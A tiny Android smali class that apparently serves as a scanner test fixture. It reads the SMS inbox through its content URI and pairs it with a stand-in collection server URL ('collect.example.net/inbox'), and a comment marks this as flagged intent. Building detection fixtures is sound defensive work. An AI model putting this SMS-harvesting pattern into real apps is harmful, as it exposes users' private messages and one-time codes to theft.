.class public Lcom/appwarden/screen/r6/SmsPeek;
.super Ljava/lang/Object;

# names the SMS inbox itself (its CONTENT_URI) next to a server, without READ_SMS: the intent still counts

.method public static peek(Landroid/content/ContentResolver;)Ljava/lang/String;
    .locals 6
    move-object v0, p0
    sget-object v1, Landroid/provider/Telephony$Sms$Inbox;->CONTENT_URI:Landroid/net/Uri;
    const/4 v2, 0x0
    const/4 v3, 0x0
    const/4 v4, 0x0
    const/4 v5, 0x0
    invoke-virtual/range {v0 .. v5}, Landroid/content/ContentResolver;->query(Landroid/net/Uri;[Ljava/lang/String;Ljava/lang/String;[Ljava/lang/String;Ljava/lang/String;)Landroid/database/Cursor;
    const-string v2, "https://collect.example.net/inbox"
    return-object v2
.end method
